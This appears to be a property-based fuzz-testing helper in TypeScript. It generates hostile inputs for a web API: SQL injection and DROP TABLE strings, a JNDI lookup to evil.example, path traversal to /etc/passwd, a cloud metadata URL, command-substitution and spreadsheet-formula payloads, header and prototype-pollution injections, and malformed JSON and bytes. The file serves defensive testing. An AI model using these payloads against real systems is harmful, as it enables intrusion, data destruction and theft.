// What people and programs send who mean harm or don't know better: texts, JSON values, pieces of addresses, headers,
// and bodies that are none.

import fc from "fast-check";
import { ATTACKS } from "../attacks.ts";
import { long } from "./attempt.ts";

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE cards; --",
  "1); SELECT pg_sleep(10); --",
  "\\'; SELECT version(); --",
  "$$; SELECT 1; $$",
  "' UNION SELECT null, null --",
  "%' AND 1=1 --",
  "{a,b}",
  '{"a',
  "ROW(1,2)",
  "$1",
  "_%\\",
];

const AMOUNTS = [
  ..."NaN Infinity -Infinity nan 1e2 1E400 -0 -0.00 +1 0 0.0 0.001 0.000000001 00.10 .5 5. 0x10 1_000 1,00 ١٢ ½".split(
    " ",
  ),
  "999999999999999999.99",
  "1000000000000000000.00",
  "99999999999999999999999999999999",
  " 1.00",
  "1.00\n",
];

const TIMES = [
  "0000-00-00T00:00:00Z",
  "0001-01-01T00:00:00Z",
  "2024-02-30T00:00:00Z",
  "2024-01-01T24:00:00Z",
  "2024-01-01T00:00:60Z",
  "9999-12-31T23:59:59.999999999Z",
  "9999-12-31T23:59:59-23:59",
  "+010000-01-01T00:00:00Z",
  "-000001-01-01T00:00:00Z",
  "2024-01-01",
  "now",
  "infinity",
  "-infinity",
  "2024-01-01T00:00:00.1234567890123456789Z",
];

const IDS = [
  "00000000-0000-0000-0000-000000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffff",
  "{{ownerId}}",
  "{{OWNERID}}",
  "{0198d2c4-7a10-7b3e-9f21-5c6d7e8f9a0b}",
  "0198d2c47a107b3e9f215c6d7e8f9a0b",
  "9223372036854775807",
  "9223372036854775808",
  "-1",
  "0",
  "1e3",
  "me",
  "system",
  "admin",
];

const UNICODE = [
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udc00x",
  "\ufeff",
  "\ufffe\uffff",
  "\u202eabc\u2066",
  "e\u0301\u0323",
  "İıẞß",
  "👩‍👩‍👧‍👦",
  "\u2028\u2029\u0085",
  "\u001b[2J\u0007\b",
  "\r\nX-Evil: 1\r\n\r\n<b>",
  "\t\v\f\u00a0\u3000",
];

const SHAPES = [
  "",
  " ",
  "null",
  "undefined",
  "true",
  "[]",
  "{}",
  "__proto__",
  "constructor",
  "toString",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data/",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what attackers of template languages send.
  "${jndi:ldap://evil.example/a}",
  "%s%n%x",
  "{{7*7}}",
  "`id`",
  "=cmd|'/C calc'!A0",
  "a,b",
  "a;b&c=d#e?f",
  "%00",
  "%ff",
  "%",
];

const LONG = [long(300), long(5_000), long(70_000), long(20_000, "🦊"), long(3_000, "\u0301"), long(2_000, "{{n}}")];

/** Texts for any field. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...SQL) },
  { weight: 3, arbitrary: fc.constantFrom(...ATTACKS) },
  { weight: 2, arbitrary: fc.constantFrom(...AMOUNTS) },
  { weight: 2, arbitrary: fc.constantFrom(...TIMES) },
  { weight: 2, arbitrary: fc.constantFrom(...IDS) },
  { weight: 3, arbitrary: fc.constantFrom(...UNICODE) },
  { weight: 3, arbitrary: fc.constantFrom(...SHAPES) },
  { weight: 1, arbitrary: fc.constantFrom(...LONG) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
);

/** Numbers as they stand in JSON, some of which no JavaScript number can be. */
const NUMBERS = [
  ..."0 -0 1 -1 0.5 1.5 1e2 1e400 -1e400 1e-400 2147483647 2147483648 -2147483649".split(" "),
  ..."9007199254740993 9223372036854775808 123456789012345678901234567890 0.1e1".split(" "),
];

/** Values for any place in a body, as JSON text: not every JSON text can be made from a JavaScript value. */
export const hostileJson: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: hostileText.map(text => JSON.stringify(text)) },
  { weight: 4, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 3, arbitrary: fc.constantFrom("null", "true", "false", "[]", "{}", "[[]]", "[null]", '[""]', '{"":""}') },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '{"__proto__": {"role": "admin"}}',
      '{"constructor": {"prototype": {"a": 1}}}',
      '{"toJSON": 1}',
      '{"length": -1, "0": "a"}',
      '{"$ne": null}',
      '{"a": 1, "a": 2}',
      '"\\ud800"',
      '"\\u0000"',
    ),
  },
  { weight: 1, arbitrary: fc.constantFrom(nested(21), nested(99), nested(101), nested(5_000)) },
  { weight: 2, arbitrary: fc.json({ maxDepth: 3 }) },
);

function nested(levels: number): string {
  return `{{long:${levels}:[}}${long(levels, "]")}`;
}

/** Texts that no JSON parser takes, or that mean something else than they seem to. */
export const brokenJson = fc.constantFrom<((json: string) => string)[]>(
  json => json.slice(0, -1),
  json => json.slice(0, Math.ceil(json.length / 2)),
  json => `${json} x`,
  json => json.replaceAll('"', "'"),
  json => `\ufeff${json}`,
  json => `// ${json}`,
  json => `${json}${json}`,
  json => json.replace("{", "{,"),
  json => json.replace("}", ",}"),
  json => json.replace(":", ":NaN,"),
  json => json.replace(/\{/, '{"a": 1, "a": 2, '),
  () => "",
  () => " ",
  () => "NaN",
  () => "undefined",
  () => "\u0000",
  () => "<xml/>",
  () => "a=b&c=d",
  () => long(100_000, "["),
  () => `{{long:60000:{"a":}}1${long(60_000, "}")}`,
);

/** Bytes that are no UTF-8: alone, over-long, half of a pair, cut off, UTF-16. */
export const brokenBytes: fc.Arbitrary<readonly number[]> = fc.constantFrom(
  [0xff],
  [0xc0, 0x80],
  [0xed, 0xa0, 0x80],
  [0xe2, 0x82],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xff, 0xfe, 0x7b, 0x00],
);

/** Pieces of an address that are not encoded, or badly. */
export const hostilePiece: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileText.map(encode) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      ..."% %z %zz %ff %c0%80 %ed%a0%80 %e2%82 %00 %2e%2e %2f..%2f %5c %0d%0aX-Evil:1 + %2b ;a=b ~ * .md .. . %25%32%66".split(
        " ",
      ),
      encode("' OR 1=1 --").toLowerCase(),
      long(4_000),
    ),
  },
);

const ADDRESS_PIECE_MAX = 4_000;

/** Percent-encoded, `{{names}}` left alone, and halves of surrogate pairs as the bytes that a careless encoder makes. */
export function encode(text: string): string {
  return text
    .split(/(\{\{[^}]*\}\})/)
    .map(part => (part.startsWith("{{") ? encodeLong(part) : encodePart(part)))
    .join("");
}

function encodeLong(name: string): string {
  return name.replace(/^(\{\{long:)(\d+):(.*)\}\}$/s, (_, start: string, count: string, piece: string) => {
    // Bun answers longer addresses by itself (raw-requests.test.ts).
    const encoded = encodePart(piece);
    return `${start}${Math.min(Number(count), Math.floor(ADDRESS_PIECE_MAX / encoded.length))}:${encoded}}}`;
  });
}

function encodePart(text: string): string {
  return [...text].map(character => (character.isWellFormed() ? encodeURIComponent(character) : "%ED%A0%80")).join("");
}

/** A header that has nothing to do with the operation, or is not what it should be. */
export const hostileHeader: fc.Arbitrary<readonly [name: string, value: string]> = fc.oneof(
  fc.tuple(
    fc.constantFrom(
      "idempotency-key",
      "if-match",
      "x-request-id",
      "accept",
      "cookie",
      "user-agent",
      "origin",
      "referer",
    ),
    fc.oneof(
      fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map(code => String.fromCharCode(code)), maxLength: 60 }),
      fc.constantFrom(
        "*",
        "null",
        "{{long:201:k}}",
        "{{long:3000:k}}",
        "' OR 1=1 --",
        "<script>",
        "%00",
        "\u00e9\u00ff",
      ),
    ),
  ),
  fc.constantFrom<readonly [string, string]>(
    ["accept", "text/csv"],
    ["accept", "text/html"],
    ["accept", "text/markdown, */*;q=0.1"],
    ["accept", "application/json;q=abc, text/csv;q=2"],
    ["accept", "{{long:1500:a/b,}}"],
    ["accept-encoding", "gzip, br, identity;q=0"],
    ["accept-language", "{{long:2000:x}}"],
    ["authorization", "Basic YTpi"],
    ["authorization", "Bearer"],
    ["authorization", "Bearer {{long:3000:k}}"],
    ["authorization", "Bearer ' OR 1=1"],
    ["content-encoding", "gzip"],
    ["cookie", "extrophi_session={{long:43:A}}"],
    ["cookie", "__Host-extrophi_session=%00; theme=<b>"],
    ["if-match", 'W/"x", "y"'],
    ["if-match", '"{{etag}}"'],
    ["if-none-match", "*"],
    ["if-none-match", '"'],
    ["if-modified-since", "Thu, 99 Foo 0000 99:99:99 GMT"],
    ["idempotency-key", " "],
    ["idempotency-key", "the same for all"],
    ["last-event-id", "-1"],
    ["origin", "https://evil.example"],
    ["range", "bytes=0-0,-1,5-2"],
    ["x-forwarded-for", "127.0.0.1, ::1, <b>"],
    ["x-forwarded-host", "evil.example"],
    ["x-forwarded-proto", "javascript"],
    ["x-http-method-override", "DELETE"],
    ["hx-request", "true"],
    ["sec-fetch-site", "cross-site"],
  ),
);

/**
 * A header that comes twice, in lower case. `first` is what it says where the request has none of its own; `second`, where
 * undefined, is the same again.
 */
export const doubledHeader: fc.Arbitrary<{ name: string; first?: string; second?: string }> = fc
  .constantFrom<readonly [name: string, first: string | undefined, ...seconds: string[]]>(
    ["authorization", undefined, "Bearer ext_Docs1234_AnExampleThatIsNobodysKey00000004ROVBo", "Basic YTpi", ""],
    ["host", undefined, "evil.example", "localhost:1", ""],
    ["content-length", undefined, "0", "3", "1048576"],
    ["content-type", "application/json", "text/plain", "application/json; charset=utf-8", ""],
    ["idempotency-key", "key {{n}}", "another {{n}}", ""],
    ["x-forwarded-for", "203.0.113.7", "127.0.0.1", "198.51.100.1, 10.0.0.1", "<b>"],
    ["cookie", "extrophi_session={{long:43:A}}", "extrophi_session={{long:43:B}}", "theme=dark"],
    ["if-match", "*", '"{{etag}}"', '"x"'],
    ["x-request-id", "one", "two"],
    ["accept", "text/html", "application/json"],
    ["origin", "https://one.example", "https://two.example"],
    ["transfer-encoding", undefined, "chunked"],
  )
  .chain(([name, first, ...seconds]) =>
    fc.constantFrom(undefined, ...seconds).map(second => ({
      name,
      ...(first === undefined ? {} : { first }),
      ...(second === undefined ? {} : { second }),
    })),
  );

export const CONTENT_TYPES = [
  "text/plain",
  "text/json",
  "application/xml",
  "application/x-www-form-urlencoded",
  "multipart/form-data",
  "multipart/form-data; boundary=",
  "application/json; charset=utf-16",
  "application/vnd.api+json",
  "application/jsonp",
  "json",
  "/",
  "",
];

export const METHODS = ["PUT", "PATCH", "DELETE", "POST", "OPTIONS", "HEAD", "PROPFIND"];
